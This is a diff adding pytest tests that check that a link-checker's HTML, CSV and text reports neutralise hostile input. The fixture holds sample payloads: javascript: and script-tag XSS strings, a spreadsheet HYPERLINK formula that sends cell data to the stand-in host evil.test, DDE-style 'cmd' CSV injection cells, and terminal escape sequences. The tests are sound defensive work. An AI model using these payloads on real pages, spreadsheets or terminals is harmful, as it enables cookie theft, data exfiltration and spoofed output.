@@ -3,6 +3,7 @@ from __future__ import annotations
 import csv
 import io
 import json
+import re
 
 import pytest
 
@@ -45,3 +46,43 @@ def test_html_escapes_hostile_urls():
     assert report.has_problems(ITEMS) and not report.has_problems(ITEMS[:1])
     with pytest.raises(ValueError, match="unknown format"):
         report.render(ITEMS, "pdf")
+
+
+HOSTILE = [
+    {"url": "javascript:alert(document.cookie)", "result": "broken", "status": 404, "final_url": None, "redirects": [],
+     "error": "<img src=x onerror=alert(1)>", "referrers": ["data:text/html,<script>alert(2)</script>"], "depth": 1},
+    {"url": "http://s/ok", "result": "error", "status": None, "final_url": None, "redirects": [],
+     "error": "=HYPERLINK(\"http://evil.test/?\"&A1,\"click\")", "referrers": ["JaVaScRiPt:alert(3)"], "depth": 1},
+    {"url": "http://s/t", "result": "timeout", "status": None, "final_url": "http://s/\x1b]0;owned\x07", "redirects": [],
+     "error": "\x1b[2J\x1b[31mall clear\r\n", "referrers": ["http://s/"], "depth": 1},
+    {"url": "http://s/long", "result": "error", "status": None, "final_url": None, "redirects": [],
+     "error": "x" * 1_000_000, "referrers": ["http://s/"], "depth": 1},
+]
+
+
+def test_html_makes_only_http_urls_live_links():
+    page = report.to_html(HOSTILE)
+    hrefs = re.findall(r'href="([^"]*)"', page)
+    assert hrefs and all(href.startswith(("http://", "https://")) for href in hrefs)
+    assert "javascript:alert(document.cookie)" in page  # shown, as text
+    assert "<img" not in page and "<script>" not in page
+    assert "Content-Security-Policy" in page
+    assert len(page) < 3 * report.MAX_FIELD  # the million-character error is capped
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cells_a_spreadsheet_would_run_are_neutralised(start: str):
+    item = {**HOSTILE[1], "error": start + "cmd|' /C calc'!A0", "referrers": [start + "1+1"]}
+    (row,) = list(csv.DictReader(io.StringIO(report.to_csv([item]), newline="")))
+    assert row["error"] == "'" + start + "cmd|' /C calc'!A0"
+    assert row["referrers"] == "'" + start + "1+1"
+    assert row["url"] == "http://s/ok"  # ordinary cells stay as they were
+
+
+def test_csv_and_text_cap_every_field_and_text_shows_no_terminal_escapes():
+    rows = list(csv.DictReader(io.StringIO(report.to_csv(HOSTILE), newline="")))
+    assert all(len(value) <= report.MAX_FIELD + 1 for row in rows for value in row.values())
+    text = report.to_text(HOSTILE)
+    assert "\x1b" not in text and "\x07" not in text and "\r" not in text
+    assert "all clear" in text
+    assert max(len(line) for line in text.splitlines()) < 2 * report.MAX_FIELD
